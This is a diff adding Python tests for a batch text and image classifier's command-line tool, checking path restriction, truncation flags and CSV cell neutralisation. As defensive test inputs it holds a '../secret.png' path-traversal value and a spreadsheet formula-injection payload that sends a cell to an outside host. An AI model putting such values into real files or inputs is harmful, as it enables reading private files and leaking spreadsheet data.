@@ -80,3 +80,50 @@ def test_run_without_token_opens_the_chat(monkeypatch):
 def test_content_validate():
     r = run("content", "validate")
     assert r.returncode == 0 and "all valid" in r.stdout
+
+
+# ---------------------------------------------------------------- issue 13: batch (items 1, 21, 22)
+def _classify_lines(tmp_path, lines: list[dict], **kw) -> list[dict]:
+    import io
+
+    from bot.cli.batch import classify_stream
+    from classifier import Checker
+
+    src = io.StringIO("".join(json.dumps(x, ensure_ascii=False) + "\n" for x in lines))
+    dst = io.StringIO()
+    classify_stream(src, dst, Checker(), progress=False, image_dir=tmp_path / "in", **kw)
+    return [json.loads(x) for x in dst.getvalue().splitlines()]
+
+
+def test_classify_reads_images_only_in_the_input_folder(tmp_path):
+    (tmp_path / "in").mkdir()
+    secret = tmp_path / "secret.png"
+    secret.write_bytes(b"not an image")
+    lines = [{"id": 1, "image": str(secret)}, {"id": 2, "image": "../secret.png"}, {"id": 3, "image": "missing.png"}]
+    rows = _classify_lines(tmp_path, lines)
+    assert "outside the input file's folder" in rows[0]["error"] and "--allow-images-anywhere" in rows[0]["error"]
+    assert "outside the input file's folder" in rows[1]["error"]
+    assert "outside" not in rows[2]["error"]  # inside the folder: read (here: not found)
+    rows = _classify_lines(tmp_path, lines[:2], allow_images_anywhere=True)
+    assert all("outside" not in r["error"] for r in rows)
+
+
+def test_classify_says_when_a_text_was_checked_in_part(tmp_path):
+    rows = _classify_lines(tmp_path, [{"text": LURES["en"] + " " + "x" * 25_000}, {"text": LURES["vi"]}])
+    assert rows[0]["truncated"] is True and rows[1]["truncated"] is False
+
+
+def test_classify_csv_neutralises_cells_and_marks_truncation(tmp_path):
+    import csv
+
+    from bot.cli.batch import classify_file
+    from classifier import Checker
+
+    src, dst = tmp_path / "in.csv", tmp_path / "out.csv"
+    with src.open("w", newline="", encoding="utf-8") as f:
+        csv.writer(f).writerows([["source", "text"], ['=HYPERLINK("http://x/?"&A1,"Click")', LURES["vi"]],
+                                 ["web", LURES["en"] + " " + "y" * 25_000]])
+    classify_file(src, dst, Checker(), progress=False)
+    rows = list(csv.DictReader(dst.read_text(encoding="utf-8-sig").splitlines()))
+    assert rows[0]["source"] == '\'=HYPERLINK("http://x/?"&A1,"Click")'
+    assert [r["truncated"] for r in rows] == ["False", "True"]
